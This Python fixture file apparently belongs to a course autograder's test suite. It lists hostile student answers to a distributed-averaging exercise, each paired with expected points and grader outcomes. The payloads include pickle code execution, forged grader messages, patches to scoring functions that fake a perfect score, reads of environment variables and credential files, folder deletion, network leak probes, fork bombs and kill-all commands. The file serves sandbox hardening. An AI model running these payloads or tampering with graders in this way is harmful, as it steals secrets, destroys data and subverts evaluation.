"""Answers to 9.1 that are broken or hostile, each with its points and its possible endings.

ATTACKS   {name: (source of the answer, points of 4, statuses)}
"""

from __future__ import annotations

RIGHT = {"right"}
ENDED = {"error", "crash", "forged"}
_DEF = "def mean_of_all(x, rank, ranks):\n"
_GOOD = "    dist.all_reduce(x)\n    return x / ranks\n"


def body(text: str, good: bool = False) -> str:
    """Return an answer that runs `text`, and then, if `good`, solves the exercise."""
    lines = "\n".join("    " + line for line in text.strip("\n").split("\n"))
    return f"{_DEF}{lines}\n" + (_GOOD if good else "    return x\n")


_FORGE = """
import os
from lablib.cluster.engine import wire
frame = {FRAME}
for fd in range(3, 64):
    try:
        os.write(fd, frame)
    except OSError:
        pass
"""
_VALUE = 'wire.pack({"kind": "value", "value": [0.0] * 4})'
_KIND = 'wire.pack("kind") + wire.pack("value")'
_VALUE_TWICE = f'b"\\x83" + 2 * ({_KIND}) + wire.pack("value") + wire.pack(1)'
_LATE = """
from lablib.cluster.engine import wire
send = wire.send
def send_more(sock, message):
    send(sock, message)
    send(sock, {"kind": "value", "value": [0.0] * 4})
wire.send = send_more
"""


def forged(frame: str, then: str = "") -> str:
    return body(_FORGE.replace("{FRAME}", frame) + then)


def framed(value: str) -> str:
    return f'(lambda data: len(data).to_bytes(8, "big") + data)({value})'


_LIAR = """
class Liar:
    def __eq__(self, other): return True
    def __float__(self): return 1.0
    def __len__(self): return 4
    __hash__ = None
return Liar()
"""
_SUBCLASS = """
class Liar(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    __hash__ = float.__hash__
return [Liar(7)] * 4
"""
_ARRAY = """
import numpy as np
class Liar(np.ndarray):
    def __sub__(self, other): return np.zeros(4)
    __rsub__ = __sub__
return np.ones(4, "float32").view(Liar)
"""
_PATCHES = """
import builtins, json, sys
import lablib.teach.claims as claims, lablib.teach.checks as checks
claims.share = checks.share = lambda *_: 1.0
claims.alike = lambda *_: True
builtins.sum = builtins.abs = lambda *_: 0
json.dumps = lambda *_, **__: '{"score": 100}'
for name in list(sys.modules):
    if name.startswith("IPython"):
        sys.modules[name] = None
"""
_PICKLE = """
class Gift:
    def __reduce__(self):
        import os
        return os.system, ("touch CANARY_FILE",)
return Gift()
"""
_OBJECTS = """
import numpy as np
class Gift:
    def __reduce__(self):
        import os
        return os.system, ("touch CANARY_FILE",)
return np.array([Gift()] * 4, object)
"""
_TORCH_FILE = """
import io, os
class Gift:
    def __reduce__(self):
        return os.system, ("touch CANARY_FILE",)
file = io.BytesIO()
torch.save({"score": Gift()}, file)
return file.getvalue()
"""
_DAEMON = """
import os, socket, time
if rank == 0 and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        kept = socket.create_server(("127.0.0.1", 29511))
        time.sleep(1000)
    os._exit(0)
"""
_FIXED_PORT = """
import socket
if rank == 0:
    kept = socket.create_server(("127.0.0.1", 29511))
dist.barrier()
"""
_NETWORK = """
import socket
def reached(family, kind, address):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(0.5)
            sock.connect(address)
            sock.send(b"leak")
            return True
    except OSError:
        return False
places = [(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", HOST_PORT)),
          (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)),
          (socket.AF_INET, socket.SOCK_DGRAM, ("1.1.1.1", 53)),
          (socket.AF_UNIX, socket.SOCK_STREAM, "\\0HOST_SOCKET")]
try:
    found = bool(socket.getaddrinfo("example.org", 80))
except OSError:
    found = False
if found or any(reached(*place) for place in places):
    return "out"
"""
_READS = """
import glob, os
told = [repr(dict(os.environ))]
for pattern in ("BASE/**/*.py", "BASE/**/*.ipynb", "/proc/*/environ", "/proc/*/cmdline",
                "/root/.*", "/home/*/.*", os.path.expanduser("~/*")):
    for path in glob.glob(pattern, recursive=True)[:200]:
        try:
            told.append(open(path, errors="replace").read()[:5000])
        except OSError:
            pass
print(told)
raise ValueError("".join(told)[-1500:])
"""
_WRITES = """
import glob, os, shutil
for folder in ("BASE/course", "BASE/class", "BASE/out", "/usr/local", os.path.expanduser("~")):
    for path in (folder + "/CANARY_FILE", folder + "/../CANARY_FILE"):
        try:
            open(path, "w").close()
        except OSError:
            pass
    try:
        os.symlink("/etc/passwd", folder + "/CANARY_FILE.ipynb")
    except OSError:
        pass
for path in glob.glob("BASE/**", recursive=True):
    try:
        os.remove(path)
    except OSError:
        shutil.rmtree(path, ignore_errors=True)
import lablib
try:
    open(os.path.join(os.path.dirname(lablib.__file__), "CANARY_FILE"), "w").close()
except OSError:
    pass
"""
_IGNORES = """
import signal
for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
while rank == 0:
    try:
        while True: pass
    except BaseException:
        pass
"""
_EVERY_RANK = """
import time
kept = []
while len(kept) < 36:  # 1.8 GB: less than one process may have
    kept.append(b"x" * (50 << 20))
    time.sleep(0.01)
time.sleep(100)
"""
_UNSEEDED = """
import os, random, time
torch.seed(), random.seed(os.urandom(8))
x += 1e-6 * (torch.randn(4) + random.random() + time.time() % 1 + len(next(iter({"a", "bb"}))))
"""
_FILLS = """
for number in range(100):
    with open(f"FOLDER{number}", "wb") as file:
        for _ in range(20):
            file.write(bytes(1 << 20))
"""
_NOISY = """
import sys, warnings
warnings.warn("deprecated")
print("rank", rank, file=sys.stderr)
print('{"score": 100}\\\\nAll tests passed\\\\n<script>alert(1)</script>')
"""

ATTACKS = {
    "loops": (body("while rank == 0: pass"), 0, {"timeout", "cpu"}),
    "ignores signals": (body(_IGNORES), 0, {"timeout", "cpu"}),
    "sys exit": (body("import sys; sys.exit(0)"), 0, {"error"}),
    "os exit": (body("import os; os._exit(0)"), 0, {"crash"}),
    "segfault": (body("import ctypes; ctypes.string_at(0)"), 0, {"crash"}),
    "kills itself": (body("import os; os.kill(os.getpid(), 9)"), 0, {"crash"}),
    "kills everybody": (body("import os; os.kill(-1, 9)"), 0, {"crash", "error", "forged"}),
    "liar": (body(_LIAR), 0, {"error"}),
    "liar of a float": (body(_SUBCLASS), 0, {"wrong", "error"}),
    "liar of an array": (body(_ARRAY), 0, {"wrong", "error"}),
    "patches": (body(_PATCHES), 0, {"wrong", "error"}),
    "forged and gone": (forged(framed(_VALUE), "os._exit(0)"), 0, ENDED),
    "forged and stays": (forged(framed(_VALUE)), 0, ENDED | {"wrong"}),
    "forged twice": (forged(f"2 * {framed(_VALUE)}"), 0, ENDED | {"wrong"}),
    # Either is possible: the grader may still be listening.
    "forged late": (body(_LATE), 0, {"forged", "wrong"}),
    "forged with a key twice": (forged(framed(_VALUE_TWICE)), 0, ENDED | {"wrong"}),
    "forged deep": (forged(framed('b"\\x91" * 100_000')), 0, ENDED | {"wrong"}),
    "forged NaN": (body('return [float("nan")] * 4'), 0, {"wrong"}),
    "forged 1 GB": (forged('(1 << 30).to_bytes(8, "big") + b"x" * 99'), 0, ENDED | {"wrong"}),
    "pickle": (body(_PICKLE), 0, {"error"}),
    "object array": (body(_OBJECTS), 0, {"error"}),
    "torch file": (body(_TORCH_FILE), 0, {"wrong"}),
    "script in an error": (body("raise ValueError('<script>alert(1)</script>')"), 0, {"error"}),
    "one process plays all": (body("return x * ranks / (rank + 1)"), 0, {"wrong"}),
    "skips the collective": (body("if rank: dist.barrier()"), 0, {"hang", "timeout"}),
    "one raises": (body("if rank == 1: raise ValueError('no')\ndist.barrier()"), 0, {"error"}),
    "one leaves": (body("import sys\nif rank == 1: sys.exit(0)\ndist.barrier()"), 0, {"error"}),
    "memory": (body("kept = []\nwhile True: kept.append(torch.empty(50 << 20))"), 0,
               {"oom", "error", "crash"}),
    "memory of every rank": (body(_EVERY_RANK), 0, {"oom"}),
    "shared memory": (body(_FILLS.replace("FOLDER", "/dev/shm/f")), 0, {"disk", "oom", "error"}),
    "disk": (body(_FILLS.replace("FOLDER", "f")), 0, {"disk", "error", "oom"}),
    "fork bomb": (body("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"), 0,
                  {"processes", "timeout", "crash", "error", "oom", "hang", "cpu"}),
    "a line of 60 MB": (body("print('x' * (60 << 20))"), 0, {"output"}),
    "input": (body("input()"), 0, {"error"}),
    "reads": (body(_READS), 0, {"error"}),
    "writes": (body(_WRITES, good=True), 4, RIGHT),
    "network": (body(_NETWORK, good=True), 4, RIGHT),
    "leaves a daemon": (body(_DAEMON, good=True), 4, RIGHT),
    "fixed port": (body(_FIXED_PORT, good=True), 4, RIGHT),
    "fixed port too": (body(_FIXED_PORT, good=True), 4, RIGHT),
    "many lines": (body("if rank == 0: print(*range(10**5), sep='\\n')", good=True), 4, RIGHT),
    "no text": (body("import os; os.write(1, b'\\xff\\x1b[31m\\0' * 1000)", good=True), 4, RIGHT),
    "noisy": (body(_NOISY, good=True), 4, RIGHT),
} | {
    f"unseeded {n}": (body(f"{n}\n{_UNSEEDED}", good=True), 4, RIGHT) for n in range(2)
}  # fmt: skip
